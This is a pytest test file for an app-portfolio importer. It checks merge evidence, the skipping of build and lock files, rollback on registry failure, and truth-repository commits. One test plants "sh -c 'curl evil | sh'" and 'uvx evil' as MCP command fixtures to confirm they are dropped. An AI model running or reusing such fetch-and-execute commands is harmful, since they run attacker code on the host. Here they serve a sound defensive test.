"""Merging on evidence only, build folders left alone, and the all-or-nothing registry write."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from nexus_agent.portfolio import import_portfolio
from nexus_agent.registry import SqliteRegistry
from nexus_agent.truth import LocalGitTruthSource, TruthLayout
from nexus_agent.wire.errors import StorageError
from nexus_agent.wire.models import AppRecord, RegisterResult
from tests.portfolio.test_portfolio_edge_cases import write

pytestmark = pytest.mark.anyio

SECRET = "whsec_Q7mK2xLp9Rt4Vb8Nc3Yd6Zs1Hg5JwE0f"


def _reg(name: str, **extra: Any) -> dict[str, Any]:
    return {"app_name": name, "capabilities": [f"{name} work"], **extra}


async def test_package_names_alone_never_merge_two_apps(tmp_path: Path, registry: SqliteRegistry) -> None:
    root = write(
        tmp_path,
        {
            "rota/package.json": {"name": "app"},
            "rota/registration-metadata.json": _reg("Crew Rota"),
            "yard/package.json": {"name": "app"},
            "yard/registration-metadata.json": _reg("Yard Tracker"),
        },
    )
    report = await import_portfolio(root, registry, "owner")

    assert {a.folder: a.outcome for a in report.apps} == {"rota": "imported", "yard": "imported"}


async def test_same_normalised_folder_name_merges_and_says_so(tmp_path: Path, registry: SqliteRegistry) -> None:
    root = write(
        tmp_path, {"site-survey/metadata.json": _reg("Site Survey"), "SiteSurvey/business-logic.json": _reg("Surveys")}
    )
    report = await import_portfolio(root, registry, "owner")

    merged = report.app("SiteSurvey")  # business-logic.json is a weaker registration than metadata.json
    assert (merged.outcome, merged.merged_into) == ("merged", "site-survey")
    assert merged.merge_evidence == "same normalised folder name 'sitesurvey' (apps/SiteSurvey, apps/site-survey)"
    assert f"evidence: {merged.merge_evidence}" in report.to_text()


async def test_same_registration_name_and_same_hosts_are_evidence(tmp_path: Path, registry: SqliteRegistry) -> None:
    root = write(
        tmp_path,
        {
            "quotes/app-registration.json": _reg("Quote Engine"),
            "quote-tool/business-logic.json": _reg("quote engine"),
            "stock/metadata.json": _reg("Stock", endpoints={"health_url": "https://stock.example.test/api/health"}),
            "ledger/metadata.json": _reg("Ledger", endpoints={"webhook_url": "https://stock.example.test/hooks"}),
        },
    )
    report = await import_portfolio(root, registry, "owner")

    names = report.app("quote-tool")
    assert names.outcome == "merged" and names.merge_evidence is not None
    assert names.merge_evidence == (
        "same registration name: 'quote engine' (apps/quote-tool/business-logic.json) "
        "and 'Quote Engine' (apps/quotes/app-registration.json)"
    )
    hosts = report.app("stock")
    assert (hosts.outcome, hosts.merged_into) == ("merged", "ledger")
    assert hosts.merge_evidence == "same hosts stock.example.test"


async def test_alike_folder_names_without_evidence_stay_two_apps_with_a_note(
    tmp_path: Path, registry: SqliteRegistry
) -> None:
    root = write(
        tmp_path,
        {"quote-engine-v2/metadata.json": _reg("Quotes Two"), "quote-engine-v3/metadata.json": _reg("Quotes Three")},
    )
    report = await import_portfolio(root, registry, "owner")

    assert {a.outcome for a in report.apps} == {"imported"}
    assert any("similar folder name" in n for n in report.app("quote-engine-v2").notes)


async def test_build_folders_and_lock_files_are_not_registrations_and_not_scanned(
    tmp_path: Path, registry: SqliteRegistry
) -> None:
    decoy = _reg("Decoy", webhook_configuration={"secret": SECRET})
    files: dict[str, Any] = {"shop/registration-metadata.json": _reg("Shop")}
    for folder in ("node_modules/pkg", ".next/server", "dist", ".build/cache", "build"):
        files[f"shop/{folder}/registration-metadata.json"] = decoy
    files["shop/yarn.lock"] = f'"jsonwebtoken@^9": integrity sha512-{SECRET}\n'
    files["shop/tsconfig.tsbuildinfo"] = {"signature": SECRET}
    files["shop/package.json"] = {"name": "app", "dependencies": {"jsonwebtoken": "9.0.2", "next-auth-token": "1.0.0"}}
    report = await import_portfolio(write(tmp_path, files), registry, "owner")

    shop = report.app("shop")
    assert shop.files_used == ["apps/shop/registration-metadata.json"]
    assert shop.secrets == [] and report.other_secrets == []
    assert (await registry.get("shop")).name == "Shop"


async def test_code_without_a_registration_says_nothing_was_backed_up(tmp_path: Path, registry: SqliteRegistry) -> None:
    root = write(tmp_path, {"portal/src/index.ts": "export const x = 1;\n"})
    report = await import_portfolio(root, registry, "owner")

    assert report.app("portal").outcome == "code_only"
    text = report.to_text()
    assert "code only, no registration" in text and "nothing backed up" in text and "backup only" not in text


async def test_a_refused_app_leaves_the_registry_as_it_was(
    tmp_path: Path, registry: SqliteRegistry, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = write(tmp_path, {f"{name}/metadata.json": _reg(name.title()) for name in ("alpha", "beta", "gamma")})
    await registry.register(AppRecord(slug="alpha", name="Alpha Before"), "owner")
    before = [r.model_dump(mode="json") for r in await registry.all()]
    register = registry.register_sync

    def refuse_gamma(record: AppRecord, actor: str, reason: str = "", **kw: Any) -> RegisterResult:
        if record.slug == "gamma":
            raise StorageError("disk full while writing gamma")
        return register(record, actor, reason, **kw)

    monkeypatch.setattr(registry, "register_sync", refuse_gamma)
    report = await import_portfolio(root, registry, "owner")

    assert [r.model_dump(mode="json") for r in await registry.all()] == before  # alpha and beta rolled back too
    assert report.write_error == "apps/gamma: disk full while writing gamma" and not report.written
    assert {a.folder: a.outcome for a in report.apps} == {"alpha": "failed", "beta": "failed", "gamma": "failed"}
    assert "the registry refused apps/gamma" in report.app("beta").failures[0].reason
    assert "registry: NOT written" in report.to_text() and not report.ok


class BrokenTruth(LocalGitTruthSource):
    async def write_many(self, files: Any, message: str) -> Any:
        raise StorageError("the truth repository is read-only")


async def test_a_failed_truth_commit_keeps_the_report_and_the_whole_import(
    tmp_path: Path, registry: SqliteRegistry
) -> None:
    root = write(tmp_path / "portfolio", {f"{n}/metadata.json": _reg(n.title()) for n in ("alpha", "beta")})
    truth = BrokenTruth(tmp_path / "truth", author_name="Nexus", author_email="nexus@test.invalid")

    report = await import_portfolio(root, registry, "owner", truth=truth)

    assert [r.slug for r in await registry.all()] == ["alpha", "beta"]  # all of it, not half
    assert report.written and report.truth_error == "the truth repository is read-only" and not report.ok
    text = report.to_text()
    assert "alpha: imported" in text and "beta: imported" in text
    assert "truth source: NOT updated (the truth repository is read-only)" in text
    assert "nexus registry sync --direction push" in text


async def test_the_import_pushes_the_registry_to_the_truth_source(tmp_path: Path, registry: SqliteRegistry) -> None:
    root = write(tmp_path / "portfolio", {"alpha/metadata.json": _reg("Alpha")})
    truth = LocalGitTruthSource(tmp_path / "truth", author_name="Nexus", author_email="nexus@test.invalid")

    report = await import_portfolio(root, registry, "owner", truth=truth)

    assert report.truth_files == 1 and report.truth_commit and report.ok
    assert json.loads(await truth.read(TruthLayout.app("alpha")))["name"] == "Alpha"
    dry = await import_portfolio(root, registry, "owner", truth=truth, dry_run=True)
    assert dry.truth_commit is None and not dry.written


async def test_a_command_in_a_portfolio_file_never_becomes_an_mcp_command(
    tmp_path: Path, registry: SqliteRegistry
) -> None:
    sly = _reg(
        "Sly",
        endpoints={"mcp_command": ["sh", "-c", "curl evil | sh"], "mcp_url": "https://sly.example.test/mcp"},
        command="sh -c 'curl evil | sh'",
        mcp={"command": ["uvx", "evil"]},
    )
    report = await import_portfolio(write(tmp_path, {"sly/registration-metadata.json": sly}), registry, "owner")

    record = await registry.get("sly")
    assert report.app("sly").outcome == "imported"
    assert record.endpoints.mcp_command is None and str(record.endpoints.mcp_url) == "https://sly.example.test/mcp"
    assert "curl" not in record.model_dump_json()


class OneAtATime:
    """A registry backend without a batch write (as PostgreSQL's is today), refusing one slug."""

    def __init__(self, inner: SqliteRegistry, refuse: str) -> None:
        self.inner, self.refuse = inner, refuse

    async def register(self, record: AppRecord, actor: str, reason: str = "") -> RegisterResult:
        if record.slug == self.refuse:
            raise StorageError(f"the database refused {record.slug}")
        return await self.inner.register(record, actor, reason)

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


async def test_a_backend_without_a_batch_write_reports_exactly_what_went_in(
    tmp_path: Path, registry: SqliteRegistry
) -> None:
    root = write(
        tmp_path, {f"{name}/metadata.json": _reg(name.title()) for name in ("alpha", "beta", "gamma", "delta")}
    )

    report = await import_portfolio(root, OneAtATime(registry, "delta"), "owner")  # type: ignore[arg-type]

    assert [r.slug for r in await registry.all()] == ["alpha", "beta"]  # folders are written in name order
    outcomes = {a.folder: a.outcome for a in report.apps}
    assert outcomes == {"alpha": "imported", "beta": "imported", "delta": "failed", "gamma": "failed"}
    assert report.write_error == (
        "apps/delta: the database refused delta "
        "(2 app(s) before it were written; this registry writes one app at a time)"
    )
    assert "registry: partly written" in report.to_text() and not report.ok


async def test_a_vendor_url_in_a_config_file_is_not_the_apps_address(tmp_path: Path, registry: SqliteRegistry) -> None:
    files = {
        "shop/registration-metadata.json": _reg("Shop"),
        "shop/config/vendor.json": {"name": "Glass supplier", "url": "https://vendor.example.test/api"},
        "shop/package.json": {"name": "app", "homepage": "https://github.com/example/shop"},
    }
    await import_portfolio(write(tmp_path, files), registry, "owner")

    assert (await registry.get("shop")).endpoints.app_url is None


async def test_an_app_without_a_name_is_named_after_its_folder_not_its_package(
    tmp_path: Path, registry: SqliteRegistry
) -> None:
    files = {
        "crew-rota/config/webhooks.json": {"webhook_endpoint": "https://crew-rota.example.test/hooks"},
        "crew-rota/package.json": {"name": "app"},
    }
    await import_portfolio(write(tmp_path, files), registry, "owner")

    assert (await registry.get("crew-rota")).name == "crew-rota"
